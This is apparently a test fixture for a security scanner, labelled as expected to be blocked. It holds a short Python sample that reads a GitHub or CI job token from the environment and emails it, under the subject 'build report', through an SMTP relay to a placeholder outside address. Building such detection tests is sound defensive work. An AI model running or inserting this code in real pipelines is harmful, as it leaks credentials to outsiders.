# expect: BLOCKED exfiltration
import os
import smtplib

token = os.getenv("GITHUB_TOKEN") or os.environ.get("CI_JOB_TOKEN", "")
message = "Subject: build report\n\n" + token

with smtplib.SMTP("mx.mailhost.example", 25) as relay:
    relay.sendmail("ci@build.example", ["ops@mailhost.example"], message)
